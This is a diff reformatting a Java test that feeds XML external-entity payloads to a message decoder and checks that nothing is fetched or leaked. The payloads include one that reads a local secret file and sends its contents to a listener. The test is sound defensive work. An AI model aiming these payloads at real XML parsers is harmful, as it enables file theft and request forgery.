@@ -30,8 +30,23 @@ class XmlAttackTest {
 
     /** Every kind that reads XML, as msgType and appMsgType. */
     private static final int[][] KINDS = {
-        {1, 0}, {3, 0}, {37, 0}, {42, 0}, {43, 0}, {47, 0}, {48, 0}, {50, 0}, {51, 0}, {49, 5}, {49, 6}, {49, 19}, {49, 33},
-        {49, 57}, {49, 2000}, {10000, 0}, {10002, 0}
+        {1, 0},
+        {3, 0},
+        {37, 0},
+        {42, 0},
+        {43, 0},
+        {47, 0},
+        {48, 0},
+        {50, 0},
+        {51, 0},
+        {49, 5},
+        {49, 6},
+        {49, 19},
+        {49, 33},
+        {49, 57},
+        {49, 2000},
+        {10000, 0},
+        {10002, 0}
     };
 
     @TempDir
@@ -40,7 +55,9 @@ class XmlAttackTest {
     /** Names of the document type, and of what it declares, that would fetch from a file or a host. */
     private static Map<String, String> fetching(String file, String host) {
         Map<String, String> attacks = new LinkedHashMap<>();
-        for (String uri : new String[] {file, host + "/x", "jar:" + file + "!/x", "ftp://" + host.substring(7) + "/x", "netdoc:" + file}) {
+        for (String uri : new String[] {
+            file, host + "/x", "jar:" + file + "!/x", "ftp://" + host.substring(7) + "/x", "netdoc:" + file
+        }) {
             attacks.put("entity " + uri, "<!DOCTYPE msg [<!ENTITY x SYSTEM \"" + uri + "\">]><msg>&x;</msg>");
             attacks.put("public " + uri, "<!DOCTYPE msg [<!ENTITY x PUBLIC \"-//p\" \"" + uri + "\">]><msg>&x;</msg>");
             attacks.put("subset " + uri, "<!DOCTYPE msg SYSTEM \"" + uri + "\"><msg/>");
@@ -48,22 +65,26 @@ class XmlAttackTest {
             attacks.put("parameter " + uri, "<!DOCTYPE msg [<!ENTITY % x SYSTEM \"" + uri + "\"> %x;]><msg/>");
             attacks.put(
                     "parameter that tells " + uri,
-                    "<!DOCTYPE msg [<!ENTITY % f SYSTEM \"" + uri + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '" + host
-                            + "/?%f;'>\">%e;%s;]><msg/>");
+                    "<!DOCTYPE msg [<!ENTITY % f SYSTEM \"" + uri + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '"
+                            + host + "/?%f;'>\">%e;%s;]><msg/>");
             attacks.put(
                     "attribute " + uri,
                     "<!DOCTYPE msg [<!ENTITY x SYSTEM \"" + uri + "\"><!ATTLIST msg a CDATA \"&x;\">]><msg/>");
             attacks.put(
                     "notation " + uri,
                     "<!DOCTYPE msg [<!NOTATION n SYSTEM \"" + uri + "\"><!ENTITY x SYSTEM \"y\" NDATA n>]><msg/>");
-            attacks.put("include " + uri, "<msg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + uri
-                    + "\" parse=\"text\"/></msg>");
-            attacks.put("schema " + uri, "<msg xmlns:s=\"http://www.w3.org/2001/XMLSchema-instance\" s:schemaLocation=\"u "
-                    + uri + "\"/>");
+            attacks.put(
+                    "include " + uri,
+                    "<msg xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + uri
+                            + "\" parse=\"text\"/></msg>");
+            attacks.put(
+                    "schema " + uri,
+                    "<msg xmlns:s=\"http://www.w3.org/2001/XMLSchema-instance\" s:schemaLocation=\"u " + uri + "\"/>");
             attacks.put("style " + uri, "<?xml-stylesheet type=\"text/xsl\" href=\"" + uri + "\"?><msg/>");
             attacks.put("base " + uri, "<msg xml:base=\"" + uri + "\"><img src=\"x\" cdnurl=\"" + uri + "\"/></msg>");
-            attacks.put("declaration " + uri, "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE msg SYSTEM \"" + uri
-                    + "\" []><msg>&x;</msg>");
+            attacks.put(
+                    "declaration " + uri,
+                    "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE msg SYSTEM \"" + uri + "\" []><msg>&x;</msg>");
         }
         return attacks;
     }
@@ -138,7 +159,8 @@ class XmlAttackTest {
     @Test
     void nothingIsFetchedNorToldFromAFile() throws Exception {
         Path secret = Files.writeString(directory.resolve("secret.txt"), CANARY);
-        try (var listener = ServerSocketChannel.open().bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
+        try (var listener =
+                ServerSocketChannel.open().bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0))) {
             listener.configureBlocking(false);
             int port = ((InetSocketAddress) listener.getLocalAddress()).getPort();
             Map<String, String> attacks = fetching(secret.toUri().toString(), "http://127.0.0.1:" + port);
@@ -195,7 +217,8 @@ class XmlAttackTest {
     }
 
     private static String look(int[] kind, String xml) {
-        RawMessage raw = SampleMessages.raw(SampleMessages.message(7, kind[0], kind[1], ALICE, SampleMessages.xml(xml)));
+        RawMessage raw =
+                SampleMessages.raw(SampleMessages.message(7, kind[0], kind[1], ALICE, SampleMessages.xml(xml)));
         Message message = MessageDecoder.decode(raw, UserName.of(SELF));
         message.note();
         String said = message.toString();
